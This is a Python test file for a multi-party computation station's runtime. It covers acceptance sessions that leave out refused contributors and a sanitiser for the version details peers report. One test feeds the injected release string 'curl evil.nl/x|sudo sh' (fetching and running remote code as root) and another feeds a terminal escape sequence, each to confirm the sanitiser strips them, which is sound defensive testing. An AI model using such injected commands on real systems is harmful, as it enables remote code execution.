"""What the agent does for its own people's verbs, and what of a peer's words reaches them."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from station_image.runtime.accepted.networks import Network
from station_image.runtime.consent.plan import Plan
from station_image.runtime.control import asking, verbs
from station_image.runtime.control.desk import Tell
from station_image.runtime.control.requests import Request, WrongUseError
from station_image.runtime.releases import about
from station_image.runtime.releases.draining import Patience
from station_image.runtime.session.meeting import Meeting
from station_image.runtime.session.proposal import ProposalRefusedError
from tests.station_image.runtime.neighbours import run
from tests.station_image.runtime.views import PARTIES, Small

NETWORK = cast("Any", SimpleNamespace(accepted={"release": "sha256:1", "authority": "sha256:2"}))
TOLD = {"release": "1.0.0", "definition": "sha256:0", "accepted": {"release": "sha256:3", "authority": "sha256:2"}}


class Proposals:
    """What parties say of who contributes: party → contributor → why it refuses a plan with that one."""

    def __init__(self, refusals: Mapping[str, Mapping[str, str]]) -> None:
        self.refusals = refusals
        self.proposed: list[list[str]] = []

    async def run(self, _: Network, plan: Plan, __: Tell) -> dict[str, Any]:
        self.proposed.append(plan.contributors)
        reasons = {
            party: why
            for party, refused in self.refusals.items()
            for contributor, why in refused.items()
            if contributor in plan.contributors
        }
        if reasons:
            raise ProposalRefusedError(reasons, refused=True)
        return {"outcome": "done", "left_out": {}, "result": {"correct": True}}


class Meetings:
    """Everybody is there; those `behind` speak a protocol that nobody else does."""

    patience = Patience()

    def __init__(self, *behind: str) -> None:
        self.behind = {*behind}

    async def of(self, network: Network, drafted: Plan, _: Patience) -> Meeting:
        own = about.own("dev", network)
        said = {one: replace(own, station=one) for one in drafted.participants}
        said |= {one: replace(said[one], protocols=[2**16 - 1]) for one in self.behind & said.keys()}
        return Meeting(network, said, {}, refused=False)


def session(
    folder: Path, refusals: Mapping[str, Mapping[str, str]], *behind: str
) -> tuple[dict[str, Any], list[list[str]]]:
    """An acceptance session of n.a, and with whom it was proposed, one after another."""
    network, proposals = Small.make(folder).networks("n.a").find("n"), Proposals(refusals)
    desk: Any = SimpleNamespace(network=lambda _: network, proposals=proposals, meetings=Meetings(*behind))
    return run(asking.session(desk, Request(verb="session"), lambda _: None)), proposals.proposed


UNKNOWN, CUT = (
    "{} is not in the definition that this station accepted",
    "{} is cut: its keys are not, or no longer, accepted here",
)


@pytest.mark.parametrize("why", [UNKNOWN, CUT])
def test_acceptance_is_without_who_not_all_computing_parties_know_while_it_joins_or_leaves(
    tmp_path: Path, why: str
) -> None:
    """It failed at whoever heard of a new member before all others did, until the last of them accepted."""
    found, proposed = session(tmp_path, {"n.b": {"n.d": why.format("n.d")}})
    assert proposed == [["n.a", "n.b", "n.c", "n.d"], ["n.a", "n.b", "n.c"]]
    assert found["left_out"] == {"n.d": f"n.b: {why.format('n.d')}"}
    assert (found["outcome"], found["exit"]) == ("done", 1)


def test_acceptance_is_without_a_contributor_that_cannot_take_part(tmp_path: Path) -> None:
    found, proposed = session(tmp_path, {}, "n.d")
    assert proposed == [["n.a", "n.b", "n.c"]]
    assert set(found["left_out"]) == {"n.d"}
    assert (found["outcome"], found["exit"]) == ("done", 1)


@pytest.mark.parametrize("why", ["session: ask again", UNKNOWN.format("n.b"), UNKNOWN.format("n.x"), CUT.format("n.c")])
def test_any_other_refusal_is_one_and_nobody_who_computes_is_left_out(tmp_path: Path, why: str) -> None:
    with pytest.raises(ProposalRefusedError, match=why.partition(":")[0]):
        session(tmp_path, {"n.a": {"n.d": why}})


def test_what_a_peer_accepted_is_told_part_by_part() -> None:
    assert verbs._version(NETWORK, TOLD) == TOLD


@pytest.mark.parametrize("odd", [None, 3, [], {"release": 1}, {"release": [], "more": "x" * 9999}, "sha256:0"])
def test_what_is_no_text_or_no_part_is_left_out(odd: Any) -> None:
    """One number in one peer's answer made the whole answer of this station one that `verify` cannot read."""
    assert verbs._version(NETWORK, {**TOLD, "accepted": odd}) == {**TOLD, "accepted": {}}
    assert verbs._version(NETWORK, {"definition": odd if odd != "sha256:0" else 1}) == {"accepted": {}}


def test_a_peer_writes_no_line_of_its_own() -> None:
    found = verbs._version(NETWORK, {"definition": "sha256:0\n\x1b[2J" + "x" * 999, "accepted": {"release": "a\nb"}})
    assert found["definition"].startswith("sha256:0  [2J")
    assert len(found["definition"]) == 80
    assert found["accepted"] == {"release": "a b"}


@pytest.mark.parametrize("odd", ["1.0.0; curl evil.nl/x|sudo sh #", "", "x" * 64, 3])
def test_a_release_of_another_form_than_releases_have_is_that_of_nobody(odd: Any) -> None:
    """People copy what they are told to run from sentences that name it."""
    assert "release" not in verbs._version(NETWORK, {**TOLD, "release": odd})


def test_a_question_is_asked_of_no_other_set_than_the_one_that_was_chosen(tmp_path: Path) -> None:
    """It was agreed before that set was: what is chosen is who may hold shares."""
    network = Small.make(tmp_path, [("n.a", "n.b", "n.d")]).networks("n.a").find("n")
    document, proposals = {"question": "griep", "computing": list(PARTIES)}, Proposals({})
    gate = SimpleNamespace(permitted=lambda *_: None)
    desk: Any = SimpleNamespace(
        network=lambda _: network,
        question=lambda _: (network, document),
        gate=gate,
        proposals=proposals,
        meetings=Meetings(),
    )
    with pytest.raises(WrongUseError, match="griep does not name set 2"):
        run(asking.propose(desk, Request(verb="propose", computing=2), lambda _: None))
    assert proposals.proposed == []
